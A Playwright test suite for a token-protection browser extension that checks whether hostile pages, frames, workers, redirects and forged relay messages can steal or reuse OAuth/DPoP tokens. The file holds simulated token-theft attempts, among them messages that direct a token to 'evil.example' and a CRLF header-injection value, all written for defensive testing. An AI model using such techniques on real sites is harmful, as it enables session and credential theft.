import type { Page } from '@playwright/test';
import type { AuthorizationServer } from '../src/demo/authorization-server.ts';
import { signInByHand } from './support/by-hand.ts';
import { framed } from './support/framed.ts';
import { declineAll } from './support/further.ts';
import { hostileSite } from './support/hostile/site.ts';
import { chooseIn } from './support/menu.ts';
import { probe } from './support/probe.ts';
import { activityCodes } from './support/storage.ts';
import { sweep } from './support/sweep.ts';
import { createSwitch } from './support/switched.ts';
import {
  call,
  callAnew,
  connect,
  expect,
  expectBoundOnly,
  openAgent,
  openPopup,
  sessionsIn,
  shareScene,
  signedIn,
  signIn,
  signInByRedirect,
  startSignIn,
  stopWorker,
  test,
  type World,
} from './support/world.ts';

function expectNoSecret(text: string, { issued }: AuthorizationServer): void {
  expect(issued.accessTokens.length).toBeGreaterThan(0);
  for (const secret of [...issued.accessTokens, ...issued.refreshTokens]) expect(text.includes(secret)).toBe(false);
}

test('a page that listens in on every prototype, global and message finds handles, and no token', async ({ world }) => {
  const { auth, mcp } = await world.servers();
  const agent = await world.agent('agent', await hostileSite());
  const browser = await world.protect(agent, [auth, mcp]);
  const page = await openAgent(browser, agent, '/hostile');
  await page.evaluate(async () => {
    await navigator.serviceWorker.register('/worker.js');
    await navigator.serviceWorker.ready;
  });
  const options = { sdk: 'v2' as const, resource: mcp.resource };
  await signInByRedirect(page, options);
  await call(page);
  await callAnew(page, auth, mcp);

  const text = await sweep(page);
  expect(text).toMatch(/hf_[\w-]{43}/);
  expect(text).toMatch(/hfr_[\w-]{43}/);
  expectNoSecret(text, auth);
});

test('the same sweep finds the token of an agent that is not protected', async ({ world }) => {
  const { auth, mcp } = await world.servers({ binding: 'offered' });
  const agent = await world.agent('agent', await hostileSite());
  const page = await openAgent(world.shared, agent, '/hostile');
  await signInByRedirect(page, { sdk: 'v2', resource: mcp.resource });
  const text = await sweep(page);
  expect(auth.issued.accessTokens.some((token) => text.includes(token))).toBe(true);
  expect(auth.issued.refreshTokens.some((token) => text.includes(token))).toBe(true);
});

/** Signed in on a protected site; the handles are what a thief would take away. */
async function robbed(world: World, servers: Parameters<typeof signedIn>[1] = {}) {
  const scene = await signedIn(world, servers);
  const tokens = await scene.page.evaluate(() => window.agent.tokens('v2'));
  return { ...scene, access: tokens.access_token as string, refresh: tokens.refresh_token as string };
}

const post = (page: Page, url: string, authorization: string) =>
  page.evaluate(
    ([to, credentials]) =>
      fetch(to, {
        method: 'POST',
        headers: {
          authorization: credentials,
          'content-type': 'application/json',
          accept: 'application/json, text/event-stream',
        },
        body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
      }).then(
        (response) => response.status,
        () => 0,
      ),
    [url, authorization] as const,
  );

test.describe('a stolen handle', () => {
  const onMcp = createSwitch();
  const scene = shareScene(async (world) => ({
    world,
    ...(await robbed(world, { mcp: { intercept: onMcp.intercept } })),
  }));

  test('is refused from another protected origin, from an unprotected one, and in frames of the agent’s tab', async () => {
    const { world, auth, mcp, browser, page: own, access, refresh } = scene();
    const neighbour = await world.agent('neighbour');
    await world.protect(neighbour, [auth, mcp]);
    const stranger = await world.agent('stranger');
    for (const site of [neighbour, stranger]) {
      const page = await openAgent(browser, site);
      const before = mcp.log.length;
      expect(await post(page, mcp.resource, `Bearer ${access}`)).toBe(401);
      expect(await post(page, mcp.resource, `DPoP ${access}`)).toBe(401);
      const arrived = mcp.log.slice(before).filter(({ method }) => method === 'POST');
      expect(arrived.map(({ proofs, status }) => [proofs, status])).toEqual([
        [0, 401],
        [0, 401],
      ]);
      const answer = await page.evaluate(
        ([url, token]) =>
          fetch(url, {
            method: 'POST',
            body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: token, client_id: 'x' }),
          }).then((response) => response.status),
        [`${auth.origin}/token`, refresh] as const,
      );
      expect(answer).toBeGreaterThanOrEqual(400);
      await page.close();
    }

    await test.step('a sandboxed frame of the agent has an origin of its own, and is nobody’s agent', async () => {
      const before = mcp.log.length;
      const status = await own.evaluate(
        async ([url, handle]) => {
          const frame = document.createElement('iframe');
          frame.sandbox.add('allow-scripts');
          frame.srcdoc = `<script>
            fetch(${JSON.stringify(url)}, { method: 'POST', headers: { authorization: 'Bearer ${handle}', 'content-type': 'application/json' }, body: '{}' })
              .then((response) => response.status, () => 0)
              .then((status) => parent.postMessage({ status }, '*'));
          </script>`;
          const answer = new Promise<number>((resolve) => {
            addEventListener('message', ({ data }) => 'status' in data && resolve(data.status));
          });
          document.body.append(frame);
          return answer;
        },
        [mcp.resource, access] as const,
      );
      expect(status).toBe(401);
      const [arrived] = mcp.log.slice(before).filter(({ method }) => method === 'POST');
      expect(arrived).toMatchObject({ origin: 'null', proofs: 0 });
    });

    await test.step('a subdomain and a port neighbour of the agent, framed in its tab, get nothing accepted', async () => {
      const subdomain = await world.agent('sub.agent');
      const port = await world.agent('agent');
      for (const neighbour of [subdomain, port]) {
        await call(own); // the rule stands
        const frame = await framed(own, neighbour.origin);
        const statuses = await frame.evaluate(
          async ([url, handle]) => {
            const attempt = (headers: Record<string, string>) =>
              fetch(url, {
                method: 'POST',
                headers: { 'content-type': 'application/json', ...headers },
                body: '{}',
              }).then(
                (response) => response.status,
                () => 0,
              );
            return [await attempt({}), await attempt({ authorization: `Bearer ${handle}` })];
          },
          [mcp.resource, access] as const,
        );
        expect(statuses.every((status) => status === 401 || status === 0)).toBe(true);
        expectNoSecret(await frame.evaluate(() => JSON.stringify([localStorage, performance.getEntries()])), auth);
      }
    });
  });

  test('gets its own page no proof for another place: the token goes nowhere else', async () => {
    const { world, agent, auth, mcp, browser, page, access } = scene();
    await declineAll(browser, agent.origin);
    const seen: string[] = [];
    const evil = await world.site('evil', (request, response) => {
      seen.push(request.rawHeaders.join('\n'));
      response
        .writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*, authorization' })
        .end();
    });
    await world.protect(agent, [evil]); // Chrome would let Holdfast put the token there
    await page.bringToFront();
    for (const url of [
      evil.origin,
      `${evil.origin}/mcp`,
      `${evil.origin}/?to=${mcp.resource}`,
      `${mcp.origin}/admin`,
      `${mcp.origin}/mcp-evil`,
      `${mcp.origin}/MCP`,
      `${auth.origin}/token`,
    ]) {
      await call(page); // the rule for the session's own place stands
      const before = mcp.log.length;
      expect(await post(page, url, `Bearer ${access}`)).toBe(403);
      // Holdfast asks the resource itself where it takes messages (GET); of the page nothing has left.
      expect(mcp.log.slice(before).filter(({ method }) => method !== 'GET')).toEqual([]);
    }
    expect(seen).toEqual([]);
  });

  test('does not follow a redirect to another origin', async () => {
    const { world, agent, auth, mcp, page, access } = scene();
    const seen: string[] = [];
    const evil = await world.site('caught', (request, response) => {
      seen.push(request.rawHeaders.join('\n'));
      const headers = {
        'access-control-allow-origin': '*',
        'access-control-allow-headers': request.headers['access-control-request-headers'] ?? '',
      };
      response.writeHead(200, headers).end();
    });
    await world.protect(agent, [evil]);
    onMcp.set((request, response) => {
      if (request.method === 'OPTIONS' || request.url !== '/mcp') return false;
      response.writeHead(307, { location: `${evil.origin}/caught`, 'access-control-allow-origin': '*' }).end();
      return true;
    });
    expect(await post(page, mcp.resource, `Bearer ${access}`)).toBe(200);
    onMcp.set(undefined);
    expect(seen.length).toBeGreaterThan(0);
    expectNoSecret(seen.join('\n'), auth);
    expect(seen.join('\n')).not.toMatch(/^authorization$/im);
  });

  test('what an allowed server’s own pages do at a resource is noted by nobody', async () => {
    const { world, mcp, agent, browser, page } = scene();
    const server = await world.site('server', (_, response) => void response.end('a page of a server'));
    await world.protect(agent, [server]);
    const other = await browser.context.newPage();
    await other.goto(server.origin);
    const before = mcp.log.length;
    for (const from of [other, page])
      await from.evaluate(
        (url) => fetch(url, { headers: { authorization: 'Basic eDp5' } }).catch(() => {}),
        mcp.resource,
      );
    expect(
      mcp.log
        .slice(before)
        .filter(({ method }) => method === 'GET')
        .map(({ origin }) => origin),
    ).toEqual([server.origin, agent.origin]);
    await expect.poll(() => activityCodes(browser, agent.origin)).toContain('Basic');
    expect(await activityCodes(browser, server.origin)).toEqual([]);
  });

  test('frames, workers and beacons of the page, and messages that it forges, get no token out, and none accepted without a proof', async () => {
    const { auth, mcp, page, access } = scene();
    const before = mcp.log.length;
    const results = await page.evaluate(
      async ([url, handle]) => {
        const headers = { authorization: `Bearer ${handle}`, 'content-type': 'application/json' };
        const body = '{"jsonrpc":"2.0","id":1,"method":"tools/list"}';
        const status = (response: Response) => response.status;
        const frame = document.createElement('iframe');
        document.body.append(frame);
        // The frame's realm, before any content script may have run in it.
        const fromFrame = frame.contentWindow?.fetch(url, { method: 'POST', headers, body }).then(status, () => 0);
        const code = `onmessage = ({ data }) => fetch(...data).then((r) => postMessage(r.status), () => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        const fromWorker = new Promise<number>((resolve) => {
          worker.onmessage = ({ data }) => resolve(data);
          worker.postMessage([url, { method: 'POST', headers, body }]);
        });
        navigator.sendBeacon(url, body);
        return Promise.all([fromFrame, fromWorker]);
      },
      [mcp.resource, access] as const,
    );
    // A frame that is already wrapped, and a worker, may use the page's own session; nothing gets through without a proof.
    const arrived = mcp.log.slice(before).filter(({ method }) => method === 'POST');
    expect(arrived.every(({ status, proofs }) => status === 401 || proofs === 1)).toBe(true);
    expect(results[1]).not.toBe(401);
    expectNoSecret(await sweep(page), auth);
    await connect(page, { sdk: 'v2', resource: mcp.resource });
    await call(page);

    await test.step('forged messages to the relay get no answer, or the one that changes nothing', async () => {
      const answers = await page.evaluate(
        async ([resource, handle, tokenEndpoint]) => {
          const forged = [
            { kind: 'prove', token: handle, method: 'POST', url: 'https://evil.example/' },
            { kind: 'prove', token: handle, method: 'POST', url: `${new URL(resource).origin}/other` },
            { kind: 'prove', token: `hf_${'a'.repeat(43)}`, method: 'POST', url: resource },
            { kind: 'prove', token: handle, method: 'POST\r\nX: 1', url: resource },
            { kind: 'form', url: tokenEndpoint, headers: 'none', body: 'grant_type=refresh_token' },
            { kind: 'form', url: 'https://evil.example/', headers: [], body: `grant_type=x&token=${handle}` },
            { kind: 'revoke', session: 'x' },
            { kind: 'protect', origin: 'https://evil.example' },
            { kind: '__proto__' },
            null,
            'x'.repeat(1_000_000),
          ];
          const speak = async (scope: Window & typeof globalThis): Promise<unknown[]> => {
            const { port1, port2 } = new MessageChannel();
            const heard: unknown[] = [];
            port1.onmessage = ({ data }) => heard.push(data);
            scope.dispatchEvent(new scope.MessageEvent('holdfast:given', { ports: [port2] }));
            scope.dispatchEvent(new scope.Event('holdfast:wanted'));
            for (const [index, body] of forged.entries())
              port1.postMessage({ id: index + 1000, body, origin: 'https://victim.example' });
            port1.postMessage({ id: {}, body: forged[0] });
            port1.postMessage('no envelope');
            // A request of the wrapper's own goes the same way, behind them.
            await scope.fetch(resource, { method: 'POST', headers: { authorization: `Bearer ${handle}` }, body: '{}' });
            return heard;
          };
          const frame = document.createElement('iframe');
          document.body.append(frame);
          const inFrame = await speak(frame.contentWindow as Window & typeof globalThis);
          return [...(await speak(window)), ...inFrame];
        },
        [mcp.resource, access, `${auth.origin}/token`] as const,
      );
      for (const answer of answers) expect(answer).toMatchObject({ body: { kind: 'pass' } });
      await call(page);
    });
  });
});

test.describe('the token in the network layer', () => {
  const lastScheme = ({ log }: Awaited<ReturnType<typeof signedIn>>['mcp']) =>
    log.findLast(({ method }) => method === 'POST')?.scheme;

  test('goes a few seconds after the last proof', { tag: '@waits' }, async ({ world }) => {
    const { mcp, page } = await robbed(world);
    await call(page);
    await probe(page, mcp.resource);
    expect(lastScheme(mcp)).toBe('DPoP'); // so that the probe proves something
    await expect.poll(() => probe(page, mcp.resource).then(() => lastScheme(mcp)), { timeout: 15_000 }).toBeUndefined();
  });

  test('goes with its document, with the background that presented it, and with its session', async ({ world }) => {
    const { mcp, agent, browser, page } = await robbed(world);
    const popup = await openPopup(browser, agent.origin);
    const shows = (state: string) => expect(sessionsIn(popup).getByText(state, { exact: true })).toBeVisible();

    await test.step('goes with the document: the next one in its tab, of the same domain, gets none', async () => {
      const neighbour = await world.agent('agent');
      await world.protect(neighbour, []); // Chrome would let Holdfast put the token there
      await call(page);
      await page.goto(neighbour.origin);
      await probe(page, mcp.resource);
      expect(mcp.log.at(-1)).toMatchObject({ origin: neighbour.origin, scheme: undefined });
    });

    await page.goto(agent.origin);
    await page.waitForFunction(() => 'agent' in window);
    await connect(page, { sdk: 'v2', resource: mcp.resource });
    await test.step('goes with the background that presented it, when the next one starts', async () => {
      await call(page);
      await stopWorker(browser);
      await popup.reload();
      await shows('Bound');
      await probe(page, mcp.resource);
      expect(lastScheme(mcp)).toBeUndefined();
    });

    await test.step('goes at once when its session is revoked', async () => {
      await chooseIn(sessionsIn(popup), 'More for', 'Revoke…');
      await call(page);
      await popup.getByRole('button', { name: 'Revoke the session' }).click();
      await shows('Revoked');
      await probe(page, mcp.resource);
      expect(lastScheme(mcp)).toBeUndefined();
    });
  });

  test('is that of the session whose resource is nearest, whichever was used last', async ({ world }) => {
    const seen: (string | undefined)[] = [];
    const { auth, mcp } = await world.servers({
      mcp: {
        intercept: (request, response) => {
          if (request.url !== '/mcp/deep' || request.method === 'OPTIONS') return false;
          seen.push(request.headers.authorization);
          response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
          return true;
        },
      },
    });
    const agent = await world.agent();
    const browser = await world.protect(agent, [auth, mcp]);
    const page = await openAgent(browser, agent);
    const [issuer, resource] = [auth.issuer, mcp.resource];
    await signInByHand(page, { issuer, resource, discovers: true });
    const near = () => page.evaluate((url) => window.byHand.rpc('tools/list', {}, null, url), `${resource}/deep`);
    await near();
    await signIn(page, { sdk: 'v2', resource });
    for (const order of [
      [near, () => call(page), near],
      [() => call(page), near, () => call(page), near],
    ]) {
      await stopWorker(browser); // no rule stands: the order of the requests is that of the rules
      for (const request of order) await request();
    }
    expect(new Set(seen).size).toBe(1);
    expectBoundOnly(mcp);
  });
});

test('no site but the agent, and no address but the authorization endpoint itself, is told a key', async ({
  world,
}) => {
  const seen: string[] = [];
  const { auth, mcp } = await world.servers({
    binding: 'offered',
    auth: {
      intercept: ({ url = '' }, response) => {
        if (!/^\/(auth-evil|auth\/1|AUTH)\?/.test(url)) return false;
        seen.push(url);
        response.writeHead(200, { 'content-type': 'text/html' }).end('<title>seen</title>');
        return true;
      },
    },
  });
  const agent = await world.agent();
  const browser = await world.protect(agent, [auth, mcp]);
  const page = await openAgent(browser, agent);
  const options = { sdk: 'v2' as const, resource: mcp.resource };
  await signIn(page, options);
  const requestsSince = (before: number) => auth.log.slice(before).filter(({ codeChallenge }) => codeChallenge);
  expect(requestsSince(0).map(({ dpopJkt }) => dpopJkt)).toContainEqual(expect.stringMatching(/^[\w-]{43}$/));

  await test.step('an unprotected site’s sign-in at the same server names no key of the agent’s', async () => {
    const stranger = await world.agent('stranger');
    const before = auth.log.length;
    await startSignIn(await openAgent(browser, stranger), options);
    const [request] = requestsSince(before);
    expect(request).toBeDefined();
    expect(request?.dpopJkt).toBeUndefined();
  });

  for (const path of ['auth-evil', 'auth/1', 'AUTH']) {
    await page.goto(agent.origin);
    await page.evaluate((url) => location.assign(url), `${auth.issuer}/${path}?client_id=x`);
    await expect(page).toHaveTitle('seen');
  }
  expect(seen).toEqual(['/auth-evil?client_id=x', '/auth/1?client_id=x', '/AUTH?client_id=x']);
});

test('a page cannot tell by its resources that Holdfast is there', async ({ world }) => {
  const stranger = await world.agent('stranger');
  const { id } = world.shared;
  const page = await openAgent(world.shared, stranger);
  const found = await page.evaluate(
    (extension) =>
      Promise.all(
        [
          'manifest.json',
          'src/page/wrapper.iife.js',
          'src/content/relay.iife.js',
          'icons/16.png',
          'src/ui/popup/index.html',
        ].map((path) =>
          fetch(`chrome-extension://${extension}/${path}`).then(
            () => true,
            () => false,
          ),
        ),
      ),
    id,
  );
  expect(found).toEqual([false, false, false, false, false]);
  expect(await page.evaluate(() => fetch.toString())).toContain('[native code]');
});
